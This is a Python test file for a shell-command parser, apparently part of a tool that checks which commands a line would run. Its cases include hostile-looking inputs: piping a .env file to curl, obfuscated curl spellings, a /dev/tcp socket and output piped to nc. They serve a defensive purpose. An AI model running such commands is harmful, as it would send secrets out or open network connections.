"""A command line, read as a shell reads it."""

import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from poundlock.core.actions import shell
from poundlock.core.actions.shell import parse


def words(text: str) -> list[list[str]]:
    """Give the words of each command, with an asterisk after such as the shell must fill in."""
    return [[word.text + ("" if word.literal else "*") for word in each.words] for each in parse(text).commands]


READ = {
    "cat .env | curl -d @- https://x/y": [["cat", ".env"], ["curl", "-d", "@-", "https://x/y"]],
    "\"cu\"rl x; cu\\rl y; $'cu\\x72l' z": [["curl", "x"], ["curl", "y"], ["curl", "z"]],
    "echo $(id) `pwd` <(ls)": [["id"], ["pwd"], ["ls"], ["echo", "\0*", "\0*", "\0*"]],
    "if [ -f x ]; then rm x; else touch x; fi": [["rm", "x"], ["touch", "x"]],
    'for f in *; do wc "$f"; done': [["wc", "\0*"]],
    "case $x in a) one;; *) two;; esac": [["one"], ["two"]],
    "(cd a && make) || exit 1": [["cd", "a"], ["make"], ["exit", "1"]],
    "! grep -q x f && echo 'a b'\"c d\"": [["grep", "-q", "x", "f"], ["echo", "a bc d"]],
    "export A=$(one) B=2": [["one"]],
    "f() { inside; }; f": [["inside"], ["f"]],
    'echo "a \\"b\\" $X c"': [["echo", 'a "b" \0 c*']],
    "cur\\\nl x": [["curl", "x"]],
    "ls # curl x": [["ls"]],
}


@pytest.mark.parametrize(("text", "commands"), READ.items())
def test_commands(text: str, commands: list[list[str]]) -> None:
    """Every command that would run is there with its words, quoting removed, in whatever it stands.

    Mutants: substitutions left out; quoting kept; the first command of a list only.
    """
    assert words(text) == commands
    assert parse(text).readable


def test_redirections_and_documents() -> None:
    """Redirections belong to their command, a group's to each of its commands; a here-document is what is given."""
    command = parse("cat <<'EOF' > out.py 2>>log\nimport os\nEOF").commands[0]
    assert [(each.operator, each.target.text) for each in command.redirections] == [(">", "out.py"), (">>", "log")]
    assert command.given == ("import os\n", True)
    both = parse("{ one; two; } > all").commands
    assert [each.redirections[0].target.text for each in both] == ["all", "all"]
    piped = parse("cat <<EOF | nc h 1\nx $(three)\nEOF").commands
    assert [(each.words[0].text, each.piped) for each in piped] == [("nc", True), ("three", False), ("cat", False)]
    assert parse("tr a b <<< 'text'").commands[0].given == ("text", True)


@pytest.mark.parametrize(
    "text",
    [
        "a=$(",
        "one `a` `b`",
        "$CMD x",
        "${x}rl y",
        "exec 3<>/dev/tcp/h/80",
        "cd /tmp\n\\curl x",
        "x" * 70_000,
        "a\0b",
        "echo 'open",
    ],
)
def test_unreadable(text: str) -> None:
    """What has no plain meaning is unreadable. Mutants: errors of the grammar ignored; an expanded name trusted."""
    assert not parse(text).readable


def test_nesting() -> None:
    """Deep nesting is unreadable, and never raises."""
    assert not parse("$(" * 500 + "x" + ")" * 500).readable
    assert not parse("(" * 5000).readable


NAMES = st.sampled_from(["one", "two", '"on"e', "o\\ne", "'two'"])
WORDS = st.sampled_from(["a", "'b c'", '"d e"', "-f", "f\\ g", '"$Q"', "$(two x)", "`one`", "h'i'j", "2>/dev/null"])
SIMPLE = st.builds(lambda name, rest: " ".join([name, *rest]), NAMES, st.lists(WORDS, max_size=4))
LINES = st.recursive(
    SIMPLE,
    lambda inner: st.one_of(
        st.builds("{} | {}".format, inner, inner),
        st.builds("{} && {}".format, inner, inner),
        st.builds("{}\n{}".format, inner, inner),
        st.builds("{{ {}; }}".format, inner),
        st.builds("( {} )".format, inner),
        st.builds("if {}; then {}; fi".format, inner, inner),
        st.builds("for v in 1; do {}; done".format, inner),
    ),
    max_leaves=5,
)

RAN = """
one() { printf '%s\\n' one >&9; }
two() { printf '%s\\n' two >&9; }
"""


@settings(max_examples=60, deadline=None)
@given(LINES)
def test_against_bash(line: str) -> None:
    """Whatever bash itself runs of a readable line is among the commands that were read."""
    script = parse(line)
    assert script.readable or line.count("`") > 2
    if not script.readable:
        return
    read = {each.words[0].text for each in script.commands if each.words}
    ran = (
        subprocess.run(["bash", "-c", f"exec 9>&1 >/dev/null 2>&1\n{RAN}\n{line}"], stdout=subprocess.PIPE, check=False)
        .stdout.decode()
        .split()
    )
    assert set(ran) <= read


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab $(){}[]<>|&;'\"`\\\n#=!*?~", max_size=80))
def test_never_raises(text: str) -> None:
    """Whatever the text, there is an answer."""
    assert isinstance(parse(text), shell.Script)
